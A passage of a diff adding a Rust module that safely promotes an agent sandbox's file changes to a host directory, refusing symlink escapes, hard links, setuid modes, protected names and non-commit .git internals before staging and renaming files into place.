@@ -1,0 +1,1849 @@
+//! Promotion: applying a sandbox's reviewed workspace changes to a directory on the host.
+//!
+//! Everything the sandbox wrote is hostile here: names, symlink targets, hard links, modes,
+//! `.git` internals. Promotion happens in two phases so nothing is half-applied:
+//!
+//! 1. [`prepare`] checks every change against the [`Rules`] and the target's current state
+//!    (each target path resolved beneath the target with `openat2(RESOLVE_BENEATH |
+//!    RESOLVE_NO_SYMLINKS)`, nothing followed), reads every file once through the upper
+//!    dir's no-follow walk, hashes it and (unless it is a dry run) copies it into a private
+//!    staging directory inside the target, owned by the target's owner, with a plain mode.
+//!    Any refusal leaves the target as it was (the staging directory is removed).
+//! 2. [`apply`] then only removes, creates directories and renames staged entries into
+//!    place, walking each parent from the target root with `O_NOFOLLOW` on every component.
+//!    A rename replaces whatever name is there without writing through it, so a symlink or
+//!    a hard link the target already holds is never written through.
+
+use std::collections::{BTreeMap, BTreeSet, HashMap};
+use std::ffi::{CStr, CString, OsStr};
+use std::fs::File;
+use std::io::{self, Read as _, Write as _};
+use std::os::fd::{AsFd, BorrowedFd, OwnedFd};
+use std::os::unix::ffi::OsStrExt as _;
+use std::path::{Component, Path, PathBuf};
+
+use rustix::fs::{AtFlags, Dir, FileType, Mode, OFlags, ResolveFlags, Stat};
+use rustix::io::Errno;
+use sha2::{Digest as _, Sha256};
+
+use crate::escape::{escape_path, is_unsafe_char};
+use crate::record::{Event, MAX_CHANGED_PATHS};
+use crate::scratch::{
+    Change, ChangeKind, DELETED_MANIFEST, ExactReader, FileKind, OPAQUE_MANIFEST, SKIPPED_MANIFEST,
+    ScratchError, open_root, open_source, read_link, size_of,
+};
+
+/// Name prefix of the staging directory [`prepare`] makes in the target root.
+pub const STAGING_PREFIX: &str = ".agent-sandbox-promote";
+
+/// What a commit writes inside `.git`, and so the only `.git` content promotion carries:
+/// these plain files directly in `.git`, and the trees `objects/` (except `objects/info/`),
+/// `refs/` and `logs/`.
+pub const GIT_FILES: &[&str] = &[
+    "HEAD",
+    "ORIG_HEAD",
+    "FETCH_HEAD",
+    "MERGE_HEAD",
+    "MERGE_MSG",
+    "MERGE_MODE",
+    "CHERRY_PICK_HEAD",
+    "REVERT_HEAD",
+    "AUTO_MERGE",
+    "COMMIT_EDITMSG",
+    "index",
+    "packed-refs",
+];
+
+/// Errors of promotion (a refused entry is not an error: see [`Plan::refused`]).
+#[derive(Debug, thiserror::Error)]
+pub enum PromoteError {
+    /// Reading the upper dir failed.
+    #[error("cannot read the workspace changes")]
+    Scratch(#[from] ScratchError),
+    /// A filesystem operation on the target or the staging area failed.
+    #[error("cannot {op} {}", escape_path(path))]
+    Io {
+        /// What was being done.
+        op: &'static str,
+        /// Path concerned.
+        path: PathBuf,
+        /// Cause.
+        #[source]
+        source: io::Error,
+    },
+    /// The target is not a directory.
+    #[error("promotion target {} is not a directory", escape_path(path))]
+    TargetNotDir {
+        /// Target path.
+        path: PathBuf,
+    },
+    /// A file changed in the upper dir between the diff and the copy.
+    #[error("{} changed while being promoted", escape_path(path))]
+    Changed {
+        /// Path relative to the workspace.
+        path: PathBuf,
+    },
+    /// [`apply`] was handed a plan that refuses entries or was prepared as a dry run.
+    #[error("this plan cannot be applied: {why}")]
+    NotApplicable {
+        /// Why.
+        why: &'static str,
+    },
+    /// The target changed between [`prepare`] and [`apply`].
+    #[error("{} changed in the target since the plan was made", escape_path(path))]
+    TargetChanged {
+        /// Path relative to the target.
+        path: PathBuf,
+    },
+    /// An apply step failed after others had succeeded.
+    #[error(
+        "promotion stopped at {} ({op}) with {} of {total} entries applied",
+        escape_path(path),
+        applied.len()
+    )]
+    Partial {
+        /// The entry that failed, relative to the target.
+        path: PathBuf,
+        /// What was being done.
+        op: &'static str,
+        /// Entries applied before it, in order.
+        applied: Vec<PathBuf>,
+        /// Entries in the plan.
+        total: usize,
+        /// Cause.
+        #[source]
+        source: io::Error,
+    },
+}
+
+fn io_at<'a>(op: &'static str, path: &'a Path) -> impl FnOnce(Errno) -> PromoteError + 'a {
+    move |e| PromoteError::Io {
+        op,
+        path: path.to_owned(),
+        source: e.into(),
+    }
+}
+
+/// Why an entry is not promoted.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Refusal {
+    /// The path has a protected name at some depth (`pkg/.envrc`, `a/.vscode/tasks.json`).
+    Protected {
+        /// The protected name as the policy writes it.
+        name: String,
+    },
+    /// Inside `.git`, but not something a commit writes (`config`, `hooks/`, `commondir`,
+    /// `info/`, `modules/`, `worktrees/`, ...).
+    GitInternal {
+        /// The path below `.git`.
+        part: String,
+    },
+    /// A `.git` that is not a directory: a gitdir pointer sends git to another directory.
+    GitNotDir,
+    /// A symlink inside `.git`.
+    GitSymlink,
+    /// Removing a whole `.git` directory.
+    GitRemoved,
+    /// A directory that would look like a bare git repository (`HEAD`, `objects/`, `refs/`)
+    /// outside `.git`: git run inside it reads its `config`.
+    EmbeddedRepo,
+    /// A name agent-sandbox itself uses (export manifests, the staging directory).
+    Reserved,
+    /// A name with control or invisible characters, or that is not UTF-8.
+    BadName,
+    /// A symlink with an absolute target.
+    SymlinkAbsolute,
+    /// A symlink whose target leaves the target tree.
+    SymlinkEscapes,
+    /// A symlink whose target has `..` after a name (what it reaches depends on that name).
+    SymlinkDotDot,
+    /// A symlink whose target names a path promotion refuses.
+    SymlinkToRefused {
+        /// Why that path is refused.
+        why: Box<Refusal>,
+    },
+    /// A symlink whose target is in, or is, a `.git`.
+    SymlinkIntoGit,
+    /// A symlink whose target resolves through another symlink.
+    SymlinkThroughLink {
+        /// The symlink on the way, relative to the target.
+        via: PathBuf,
+    },
+    /// A file with more names than the change set holds: a hard link to something outside it.
+    HardLink {
+        /// Its link count.
+        nlink: u64,
+        /// How many of its names the change set holds.
+        inside: u64,
+    },
+    /// A fifo, socket, device or unknown type.
+    Special {
+        /// Its type.
+        kind: FileKind,
+    },
+    /// A setuid or setgid bit.
+    SetId {
+        /// The permission bits.
+        mode: u32,
+    },
+    /// A parent directory in the target is a symlink.
+    ParentSymlink,
+    /// A parent in the target is not a directory and the change set does not replace it.
+    ParentNotDir,
+    /// Applying it would remove something in the target that promotion refuses to touch.
+    RemovesRefused {
+        /// That path, relative to the target.
+        path: PathBuf,
+        /// Why it may not be removed.
+        why: Box<Refusal>,
+    },
+}
+
+impl std::fmt::Display for Refusal {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            Refusal::Protected { name } => write!(f, "protected name {name} (at any depth)"),
+            Refusal::GitInternal { part } => write!(
+                f,
+                ".git/{} is not something a commit writes",
+                crate::escape::escape(part)
+            ),
+            Refusal::GitNotDir => f.write_str(
+                "a .git that is not a directory (a gitdir pointer sends git elsewhere)",
+            ),
+            Refusal::GitSymlink => f.write_str("a symlink inside .git"),
+            Refusal::GitRemoved => f.write_str("removes a whole .git directory"),
+            Refusal::EmbeddedRepo => f.write_str(
+                "makes a directory look like a bare git repository (git run there reads its config)",
+            ),
+            Refusal::Reserved => f.write_str("a name agent-sandbox uses for its own files"),
+            Refusal::BadName => {
+                f.write_str("a name with control or invisible characters, or not UTF-8")
+            }
+            Refusal::SymlinkAbsolute => f.write_str("a symlink with an absolute target"),
+            Refusal::SymlinkEscapes => f.write_str("a symlink whose target leaves the target tree"),
+            Refusal::SymlinkDotDot => f.write_str("a symlink whose target has .. after a name"),
+            Refusal::SymlinkIntoGit => f.write_str("a symlink into .git"),
+            Refusal::SymlinkToRefused { why } => write!(f, "a symlink to a refused path: {why}"),
+            Refusal::SymlinkThroughLink { via } => write!(
+                f,
+                "a symlink whose target passes through the symlink /{}",
+                escape_path(via)
+            ),
+            Refusal::HardLink { nlink, inside } => write!(
+                f,
+                "a hard link to a file outside the change set ({nlink} links, {inside} in the change set)"
+            ),
+            Refusal::Special { kind } => write!(f, "a {} (only files, dirs and symlinks)", kind.name()),
+            Refusal::SetId { mode } => write!(f, "setuid/setgid mode {mode:04o}"),
+            Refusal::ParentSymlink => f.write_str("a parent directory in the target is a symlink"),
+            Refusal::ParentNotDir => f.write_str("a parent in the target is not a directory"),
+            Refusal::RemovesRefused { path, why } => {
+                write!(f, "would remove /{} in the target: {why}", escape_path(path))
+            }
+        }
+    }
+}
+
+/// The names promotion refuses at any depth (the policy's protected names).
+#[derive(Debug, Clone, Default)]
+pub struct Rules {
+    names: Vec<(String, Vec<Vec<u8>>)>,
+}
+
+impl Rules {
+    /// Rules refusing each of `names` (relative names, `/`-separated, a trailing `/` for a
+    /// directory: `.bashrc`, `.vscode/`, `.git/hooks/`) wherever it occurs in a path, and
+    /// everything below it.
+    pub fn new<'a>(names: impl IntoIterator<Item = &'a str>) -> Rules {
+        let mut out: Vec<(String, Vec<Vec<u8>>)> = names
+            .into_iter()
+            .filter_map(|n| {
+                let parts: Vec<Vec<u8>> = n
+                    .split('/')
+                    .filter(|p| !p.is_empty())
+                    .map(|p| p.as_bytes().to_vec())
+                    .collect();
+                (!parts.is_empty()).then(|| (n.to_owned(), parts))
+            })
+            .collect();
+        out.sort();
+        out.dedup();
+        Rules { names: out }
+    }
+
+    /// The protected name `path` matches at some depth, if any.
+    pub fn protected(&self, path: &Path) -> Option<&str> {
+        let comps: Vec<&[u8]> = path.iter().map(OsStr::as_bytes).collect();
+        self.names.iter().find_map(|(name, parts)| {
+            comps
+                .windows(parts.len())
+                .any(|w| w.iter().zip(parts).all(|(a, b)| *a == b.as_slice()))
+                .then_some(name.as_str())
+        })
+    }
+
+    /// Why `path` (an entry of type `kind`) may not be written, or removed when
+    /// `removal`, in a promotion target.
+    pub fn check(&self, path: &Path, kind: FileKind, removal: bool) -> Option<Refusal> {
+        let mut comps = Vec::new();
+        for c in path.components() {
+            let Component::Normal(n) = c else {
+                return Some(Refusal::BadName);
+            };
+            match n.to_str() {
+                Some(s) if !s.chars().any(is_unsafe_char) => comps.push(s),
+                _ => return Some(Refusal::BadName),
+            }
+        }
+        if comps.iter().any(|c| {
+            [DELETED_MANIFEST, OPAQUE_MANIFEST, SKIPPED_MANIFEST].contains(c)
+                || c.starts_with(STAGING_PREFIX)
+        }) {
+            return Some(Refusal::Reserved);
+        }
+        for (i, c) in comps.iter().enumerate() {
+            if *c != ".git" {
+                continue;
+            }
+            let rest = comps.get(i + 1..).unwrap_or_default();
+            if rest.is_empty() {
+                if kind != FileKind::Dir && !removal {
+                    return Some(Refusal::GitNotDir);
+                }
+                if removal {
+                    return Some(Refusal::GitRemoved);
+                }
+                continue;
+            }
+            if kind == FileKind::Symlink {
+                return Some(Refusal::GitSymlink);
+            }
+            if !git_allows(rest, kind) {
+                return Some(Refusal::GitInternal {
+                    part: rest.join("/"),
+                });
+            }
+        }
+        // A non-directory named .git: a gitdir pointer (written, or removed to expose what
+        // it hid: both change which repository git uses).
+        if comps.last() == Some(&".git") && kind != FileKind::Dir {
+            return Some(Refusal::GitNotDir);
+        }
+        self.protected(path).map(|name| Refusal::Protected {
+            name: name.to_owned(),
+        })
+    }
+}
+
+/// Whether `rest` (the components below a `.git`) is something a commit writes.
+fn git_allows(rest: &[&str], kind: FileKind) -> bool {
+    match rest {
+        ["objects", "info", ..] => false,
+        ["objects" | "refs" | "logs", ..] => true,
+        [name] => kind != FileKind::Dir && GIT_FILES.contains(name),
+        _ => false,
+    }
+}
+
+/// What the target holds at a path before promotion.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Existing {
+    /// Nothing (or a parent that promotion creates or replaces).
+    Absent,
+    /// A directory.
+    Dir,
+    /// A regular file.
+    File,
+    /// A symlink.
+    Symlink,
+    /// Anything else.
+    Other,
+}
+
+/// What promotion does with one change.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Op {
+    /// Remove what the target holds there (a whole tree for a directory).
+    Delete,
+    /// Make sure a directory is there (mode 0755 when created); `clear` removes what an
+    /// existing one holds first (an opaque directory replaces its lower one wholesale).
+    Dir {
+        /// Remove the existing directory's content first.
+        clear: bool,
+    },
+    /// Put a regular file there.
+    File {
+        /// 0644, or 0755 when any execute bit was set.
+        mode: u32,
+        /// Size in bytes.
+        size: u64,
+        /// sha256 of the content.
+        sha256: [u8; 32],
+    },
+    /// Put a symlink there (its target stays inside the target tree).
+    Symlink {
+        /// The target, as stored.
+        target: PathBuf,
+    },
+}
+
+/// One planned step.
+#[derive(Debug, Clone)]
+pub struct Entry {
+    /// Path relative to the target.
+    pub path: PathBuf,
+    /// How the sandbox changed it.
+    pub kind: ChangeKind,
+    /// What promotion does.
+    pub op: Op,
+    /// What the target holds there now.
+    pub existing: Existing,
+    staged: Option<CString>,
+}
+
+impl Entry {
+    /// One line for a person, names escaped: `create /src/new.py (file 0644, 12 bytes)`.
+    pub fn describe(&self) -> String {
+        let p = escape_path(&self.path);
+        let replaces = match self.existing {
+            Existing::Absent => "",
+            Existing::Dir => ", replacing a directory",
+            Existing::File => "",
+            Existing::Symlink => ", replacing a symlink",
+            Existing::Other => ", replacing a special file",
+        };
+        match &self.op {
+            Op::Delete if self.existing == Existing::Absent => {
+                format!("delete  /{p} (already absent)")
+            }
+            Op::Delete => format!("delete  /{p}"),
+            Op::Dir { clear: true } => format!("clear   /{p} (opaque: its current content goes)"),
+            Op::Dir { clear: false } if self.existing == Existing::Dir => {
+                format!("keep    /{p} (directory)")
+            }
+            Op::Dir { .. } => format!("mkdir   /{p}{replaces}"),
+            Op::File { mode, size, .. } => {
+                let verb = if self.existing == Existing::File {
+                    "replace"
+                } else {
+                    "create "
+                };
+                format!("{verb} /{p} (file {mode:04o}, {size} bytes{replaces})")
+            }
+            Op::Symlink { target } => {
+                format!("symlink /{p} -> {}{replaces}", escape_path(target))
+            }
+        }
+    }
+}
+
+/// The result of [`prepare`]: what would be done, what is refused, and the digest of the
+/// change set.
+#[derive(Debug)]
+pub struct Plan {
+    /// Steps in order (parents before children).
+    pub entries: Vec<Entry>,
+    /// Refused entries with the reason, in path order.
+    pub refused: Vec<(PathBuf, Refusal)>,
+    /// `sha256:` digest of the steps (paths, kinds, modes, file contents, link targets).
+    pub digest: String,
+    /// The target's owner (uid, gid): every created entry gets it.
+    pub owner: (u32, u32),
+    target: PathBuf,
+    root: OwnedFd,
+    staging: Option<Staging>,
+}
+
+/// The private staging directory in the target root; removed on drop.
+#[derive(Debug)]
+struct Staging {
+    name: CString,
+    fd: OwnedFd,
+    root: OwnedFd,
+    next: u64,
+}
+
+impl Staging {
+    fn new(root: &OwnedFd, target: &Path, owner: (u32, u32)) -> Result<Staging, PromoteError> {
+        let name =
+            CString::new(format!("{STAGING_PREFIX}-{}", std::process::id())).unwrap_or_default();
+        let path = target.join(OsStr::from_bytes(name.as_bytes()));
+        rustix::fs::mkdirat(root, name.as_c_str(), Mode::from_raw_mode(0o700))
+            .map_err(io_at("create staging directory", &path))?;
+        let root = rustix::io::fcntl_dupfd_cloexec(root, 0).map_err(io_at("open", target))?;
+        let fd = rustix::fs::openat(
+            &root,
+            name.as_c_str(),
+            OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
+            Mode::empty(),
+        );
+        let staging_fd = match fd {
+            Ok(fd) => fd,
+            Err(e) => {
+                let _ = rustix::fs::unlinkat(&root, name.as_c_str(), AtFlags::REMOVEDIR);
+                return Err(io_at("open staging directory", &path)(e));
+            }
+        };
+        let staging = Staging {
+            name,
+            fd: staging_fd,
+            root,
+            next: 0,
+        };
+        chown_if_needed(staging.fd.as_fd(), owner).map_err(io_at("chown", &path))?;
+        Ok(staging)
+    }
+
+    fn next_name(&mut self) -> CString {
+        self.next += 1;
+        CString::new(self.next.to_string()).unwrap_or_default()
+    }
+}
+
+impl Drop for Staging {
+    fn drop(&mut self) {
+        if let Err(e) = remove_tree(self.root.as_fd(), self.name.as_c_str()) {
+            tracing::warn!(error = %e, "cannot remove the promotion staging directory");
+        }
+    }
+}
+
+fn chown_if_needed(fd: BorrowedFd<'_>, (uid, gid): (u32, u32)) -> Result<(), Errno> {
+    let st = rustix::fs::fstat(fd)?;
+    if st.st_uid == uid && st.st_gid == gid {
+        return Ok(());
+    }
+    rustix::fs::fchown(
+        fd,
+        Some(rustix::fs::Uid::from_raw(uid)),
+        Some(rustix::fs::Gid::from_raw(gid)),
+    )
+}
+
+fn file_type(st: &Stat) -> Existing {
+    match FileType::from_raw_mode(st.st_mode) {
+        FileType::Directory => Existing::Dir,
+        FileType::RegularFile => Existing::File,
+        FileType::Symlink => Existing::Symlink,
+        _ => Existing::Other,
+    }
+}
+
+fn cname(path: &Path) -> Result<CString, PromoteError> {
+    let name = path.file_name().unwrap_or_default();
+    CString::new(name.as_bytes()).map_err(|e| PromoteError::Io {
+        op: "resolve",
+        path: path.to_owned(),
+        source: io::Error::new(io::ErrorKind::InvalidInput, e),
+    })
+}
+
+/// Looks up `rel` in the target without following anything.
+fn lookup(
+    root: &OwnedFd,
+    rel: &Path,
+    fresh: &BTreeSet<PathBuf>,
+) -> Result<Result<Existing, Refusal>, PromoteError> {
+    if rel.ancestors().skip(1).any(|a| fresh.contains(a)) {
+        return Ok(Ok(Existing::Absent));
+    }
+    let parent = rel.parent().unwrap_or(Path::new(""));
+    let pfd = if parent.as_os_str().is_empty() {
+        rustix::io::fcntl_dupfd_cloexec(root, 0).map_err(io_at("open", rel))?
+    } else {
+        match rustix::fs::openat2(
+            root,
+            parent,
+            OFlags::PATH | OFlags::DIRECTORY | OFlags::CLOEXEC,
+            Mode::empty(),
+            ResolveFlags::BENEATH | ResolveFlags::NO_SYMLINKS | ResolveFlags::NO_MAGICLINKS,
+        ) {
+            Ok(fd) => fd,
+            Err(Errno::NOENT) => return Ok(Ok(Existing::Absent)),
+            Err(Errno::LOOP) => return Ok(Err(Refusal::ParentSymlink)),
+            Err(Errno::NOTDIR) => return Ok(Err(Refusal::ParentNotDir)),
+            Err(e) => return Err(io_at("resolve", parent)(e)),
+        }
+    };
+    match rustix::fs::statat(&pfd, cname(rel)?.as_c_str(), AtFlags::SYMLINK_NOFOLLOW) {
+        Ok(st) => Ok(Ok(file_type(&st))),
+        Err(Errno::NOENT) => Ok(Ok(Existing::Absent)),
+        Err(e) => Err(io_at("stat", rel)(e)),
+    }
+}
+
+/// Every path below the directory `rel` of the target (no link followed), with its type.
+fn scan_tree(root: &OwnedFd, rel: &Path) -> Result<Vec<(PathBuf, FileKind)>, PromoteError> {
+    let dir = rustix::fs::openat2(
+        root,
+        rel,
+        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC,
+        Mode::empty(),
+        ResolveFlags::BENEATH | ResolveFlags::NO_SYMLINKS | ResolveFlags::NO_MAGICLINKS,
+    )
+    .map_err(io_at("open directory", rel))?;
+    let mut out = Vec::new();
+    scan_into(&dir, rel, &mut out)?;
+    Ok(out)
+}
+
+fn scan_into(
+    dir: &OwnedFd,
+    rel: &Path,
+    out: &mut Vec<(PathBuf, FileKind)>,
+) -> Result<(), PromoteError> {
+    for name in names_of(dir, rel)? {
+        let child = rel.join(OsStr::from_bytes(name.to_bytes()));
+        let st = match rustix::fs::statat(dir, name.as_c_str(), AtFlags::SYMLINK_NOFOLLOW) {
+            Ok(st) => st,
+            Err(Errno::NOENT) => continue,
+            Err(e) => return Err(io_at("stat", &child)(e)),
+        };
+        let kind = kind_of(&st);
+        out.push((child.clone(), kind));
+        if kind == FileKind::Dir {
+            let sub = rustix::fs::openat(
+                dir,
+                name.as_c_str(),
+                OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
+                Mode::empty(),
+            )
+            .map_err(io_at("open directory", &child))?;
+            scan_into(&sub, &child, out)?;
+        }
+    }
+    Ok(())
+}
+
+fn kind_of(st: &Stat) -> FileKind {
+    match FileType::from_raw_mode(st.st_mode) {
+        FileType::RegularFile => FileKind::File,
+        FileType::Directory => FileKind::Dir,
+        FileType::Symlink => FileKind::Symlink,
+        FileType::Fifo => FileKind::Fifo,
+        FileType::Socket => FileKind::Socket,
+        FileType::CharacterDevice => FileKind::CharDevice,
+        FileType::BlockDevice => FileKind::BlockDevice,
+        FileType::Unknown => FileKind::Unknown,
+    }
+}
+
+fn names_of(dir: &OwnedFd, rel: &Path) -> Result<Vec<CString>, PromoteError> {
+    let mut names = Vec::new();
+    for entry in Dir::read_from(dir).map_err(io_at("read directory", rel))? {
+        let entry = entry.map_err(io_at("read directory", rel))?;
+        let n = entry.file_name();
+        if n.to_bytes() != b"." && n.to_bytes() != b".." {
+            names.push(n.to_owned());
+        }
+    }
+    names.sort();
+    Ok(names)
+}
+
+/// Resolves a symlink target lexically from the link's directory; the path it names,
+/// relative to the target root.
+fn resolve_link(link: &Path, target: &Path) -> Result<PathBuf, Refusal> {
+    let mut stack: Vec<&OsStr> = link
+        .parent()
+        .map(|p| p.iter().collect())
+        .unwrap_or_default();
+    let mut named = false;
+    for c in target.components() {
+        match c {
+            Component::RootDir | Component::Prefix(_) => return Err(Refusal::SymlinkAbsolute),
+            Component::CurDir => {}
+            Component::ParentDir if named => return Err(Refusal::SymlinkDotDot),
+            Component::ParentDir => {
+                if stack.pop().is_none() {
+                    return Err(Refusal::SymlinkEscapes);
+                }
+            }
+            Component::Normal(n) => {
+                named = true;
+                stack.push(n);
+            }
+        }
+    }
+    Ok(stack.iter().collect())
+}
+
+/// How a file's content is read and, when staging, copied.
+fn copy_and_hash(
+    upper_fd: &OwnedFd,
+    upper: &Path,
+    rel: &Path,
+    expected: &Change,
+    staging: Option<&mut Staging>,
+    owner: (u32, u32),
+) -> Result<(Stat, [u8; 32], Option<CString>), PromoteError> {
+    let (src, st) = open_source(upper_fd, upper, rel)?;
+    if st.st_mode & 0o7777 != expected.mode {
+        return Err(PromoteError::Changed {
+            path: rel.to_owned(),
+        });
+    }
+    let size = size_of(&st);
+    let mut reader = ExactReader {
+        inner: src,
+        remaining: size,
+    };
+    let mut hasher = Sha256::new();
+    let (mut out, name) = match staging {
+        Some(s) => {
+            let name = s.next_name();
+            let fd = rustix::fs::openat(
+                &s.fd,
+                name.as_c_str(),
+                OFlags::WRONLY | OFlags::CREATE | OFlags::EXCL | OFlags::NOFOLLOW | OFlags::CLOEXEC,
+                Mode::from_raw_mode(0o600),
+            )
+            .map_err(io_at("create staged copy of", rel))?;
+            (Some(File::from(fd)), Some(name))
+        }
+        None => (None, None),
+    };
+    let mut buf = vec![0u8; 64 * 1024];
+    loop {
+        let n = reader.read(&mut buf).map_err(|source| PromoteError::Io {
+            op: "read",
+            path: upper.join(rel),
+            source,
+        })?;
+        if n == 0 {
+            break;
+        }
+        let chunk = buf.get(..n).unwrap_or_default();
+        hasher.update(chunk);
+        if let Some(f) = out.as_mut() {
+            f.write_all(chunk).map_err(|source| PromoteError::Io {
+                op: "write staged copy of",
+                path: rel.to_owned(),
+                source,
+            })?;
+        }
+    }
+    if let Some(f) = out {
+        let mode = normal_file_mode(st.st_mode);
+        chown_if_needed(f.as_fd(), owner).map_err(io_at("chown staged copy of", rel))?;
+        rustix::fs::fchmod(&f, Mode::from_raw_mode(mode))
+            .map_err(io_at("chmod staged copy of", rel))?;
+        f.sync_all().map_err(|source| PromoteError::Io {
+            op: "sync staged copy of",
+            path: rel.to_owned(),
+            source,
+        })?;
+    }
+    Ok((st, hasher.finalize().into(), name))
+}
+
+/// The mode a promoted file gets: 0755 if any execute bit was set, else 0644 (what git
+/// itself records); never setuid, setgid or sticky.
+pub fn normal_file_mode(mode: u32) -> u32 {
+    if mode & 0o111 != 0 { 0o755 } else { 0o644 }
+}
+
+/// Checks `changes` (from [`crate::diff`] of `upper`) against `rules` and the current
+/// content of `target`, and hashes every file. With `stage`, files and symlinks are also
+/// copied into a private staging directory in `target` for [`apply`]; without it (a dry
+/// run) nothing in `target` is touched. Refused entries are listed in [`Plan::refused`];
+/// when there are any, nothing may be applied.
+pub fn prepare(
+    upper: &Path,
+    changes: &[Change],
+    target: &Path,
+    rules: &Rules,
+    stage: bool,
+) -> Result<Plan, PromoteError> {
+    let root = match rustix::fs::open(
+        target,
+        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC,
+        Mode::empty(),
+    ) {
+        Ok(fd) => fd,
+        Err(Errno::NOTDIR) => {
+            return Err(PromoteError::TargetNotDir {
+                path: target.to_owned(),
+            });
+        }
+        Err(e) => return Err(io_at("open", target)(e)),
+    };
+    let st = rustix::fs::fstat(&root).map_err(io_at("stat", target))?;
+    let owner = (st.st_uid, st.st_gid);
+    let mut staging = if stage {
+        Some(Staging::new(&root, target, owner)?)
+    } else {
+        None
+    };
+    let upper_fd = open_root(upper, OFlags::RDONLY)?;
+    let mut refused: Vec<(PathBuf, Refusal)> = Vec::new();
+    let mut entries: Vec<Entry> = Vec::new();
+    let mut fresh: BTreeSet<PathBuf> = BTreeSet::new();
+    // (dev, ino) -> (nlink, names in the change set, those names)
+    let mut inodes: HashMap<(u64, u64), (u64, u64, Vec<PathBuf>)> = HashMap::new();
+    let mut links: Vec<(PathBuf, PathBuf)> = Vec::new();
+    // Every symlink of the change set, refused ones too.
+    let all_links: BTreeSet<&Path> = changes
+        .iter()
+        .filter(|c| c.file_type == FileKind::Symlink && c.kind != ChangeKind::Deleted)
+        .map(|c| c.path.as_path())
+        .collect();
+
+    for c in changes {
+        let removal = c.kind == ChangeKind::Deleted;
+        if let Some(r) = rules.check(&c.path, c.file_type, removal) {
+            refused.push((c.path.clone(), r));
+            continue;
+        }
+        let existing = match lookup(&root, &c.path, &fresh)? {
+            Ok(e) => e,
+            Err(r) => {
+                refused.push((c.path.clone(), r));
+                continue;
+            }
+        };
+        // Whatever a step removes from the target must be removable too.
+        let removes_tree = match (c.kind, c.file_type) {
+            (ChangeKind::OpaqueDir, _) | (ChangeKind::Deleted, _) => existing == Existing::Dir,
+            (_, FileKind::Dir) => false,
+            _ => existing == Existing::Dir,
+        };
+        if removes_tree {
+            let bad = scan_tree(&root, &c.path)?
+                .into_iter()
+                .find_map(|(p, k)| rules.check(&p, k, true).map(|r| (p, r)));
+            if let Some((path, why)) = bad {
+                refused.push((
+                    c.path.clone(),
+                    Refusal::RemovesRefused {
+                        path,
+                        why: Box::new(why),
+                    },
+                ));
+                continue;
+            }
+        }
+        if c.kind != ChangeKind::Deleted && c.mode & 0o6000 != 0 {
+            refused.push((c.path.clone(), Refusal::SetId { mode: c.mode }));
+            continue;
+        }
+        let (op, staged) = match (c.kind, c.file_type) {
+            (ChangeKind::Deleted, _) => (Op::Delete, None),
+            (_, FileKind::Dir) => {
+                let clear = c.kind == ChangeKind::OpaqueDir && existing == Existing::Dir;
+                if existing != Existing::Dir || clear {
+                    fresh.insert(c.path.clone());
+                }
+                (Op::Dir { clear }, None)
+            }
+            (_, FileKind::File) => {
+                let (st, sha256, staged) =
+                    copy_and_hash(&upper_fd, upper, &c.path, c, staging.as_mut(), owner)?;
+                if st.st_nlink > 1 {
+                    let e = inodes.entry((st.st_dev, st.st_ino)).or_insert((
+                        st.st_nlink,
+                        0,
+                        Vec::new(),
+                    ));
+                    e.1 += 1;
+                    e.2.push(c.path.clone());
+                }
+                let op = Op::File {
+                    mode: normal_file_mode(st.st_mode),
+                    size: size_of(&st),
+                    sha256,
+                };
+                (op, staged)
+            }
+            (_, FileKind::Symlink) => {
+                let target_os = read_link(&upper_fd, upper, &c.path)?;
+                let link_target = PathBuf::from(target_os);
+                let resolved = match resolve_link(&c.path, &link_target) {
+                    Ok(r) => r,
+                    Err(r) => {
+                        refused.push((c.path.clone(), r));
+                        continue;
+                    }
+                };
+                if resolved.iter().any(|c| c == ".git") {
+                    refused.push((c.path.clone(), Refusal::SymlinkIntoGit));
+                    continue;
+                }
+                let why = if resolved.as_os_str().is_empty() {
+                    None
+                } else {
+                    rules.check(&resolved, FileKind::Unknown, false)
+                };
+                if let Some(why) = why {
+                    refused.push((
+                        c.path.clone(),
+                        Refusal::SymlinkToRefused { why: Box::new(why) },
+                    ));
+                    continue;
+                }
+                links.push((c.path.clone(), resolved));
+                let staged = match staging.as_mut() {
+                    Some(s) => {
+                        let name = s.next_name();
+                        rustix::fs::symlinkat(link_target.as_os_str(), &s.fd, name.as_c_str())
+                            .map_err(io_at("stage symlink", &c.path))?;
+                        let (uid, gid) = owner;
+                        rustix::fs::chownat(
+                            &s.fd,
+                            name.as_c_str(),
+                            Some(rustix::fs::Uid::from_raw(uid)),
+                            Some(rustix::fs::Gid::from_raw(gid)),
+                            AtFlags::SYMLINK_NOFOLLOW,
+                        )
+                        .map_err(io_at("chown staged symlink", &c.path))?;
+                        Some(name)
+                    }
+                    None => None,
+                };
+                (
+                    Op::Symlink {
+                        target: link_target,
+                    },
+                    staged,
+                )
+            }
+            (_, kind) => {
+                refused.push((c.path.clone(), Refusal::Special { kind }));
+                continue;
+            }
+        };
+        if matches!(op, Op::File { .. } | Op::Symlink { .. }) && existing == Existing::Dir {
+            // Replaced by a non-directory: nothing of the old tree survives.
+            fresh.insert(c.path.clone());
+        }
+        entries.push(Entry {
+            path: c.path.clone(),
+            kind: c.kind,
+            op,
+            existing,
+            staged,
+        });
+    }
+
+    // Hard links: every name of a linked file must be in the change set.
+    for (nlink, inside, paths) in inodes.into_values() {
+        if inside < nlink {
+            for p in paths {
+                refused.push((p, Refusal::HardLink { nlink, inside }));
+            }
+        }
+    }
+
+    // Symlinks may not resolve through another symlink (planned, or already in the target).
+    let planned: BTreeMap<&Path, &Op> = entries.iter().map(|e| (e.path.as_path(), &e.op)).collect();
+    for (link, resolved) in &links {
+        let mut prefix = PathBuf::new();
+        for comp in resolved.iter() {
+            prefix.push(comp);
+            let through = match planned.get(prefix.as_path()) {
+                _ if all_links.contains(prefix.as_path()) => true,
+                Some(_) => false,
+                None => matches!(
+                    lookup(&root, &prefix, &fresh)?,
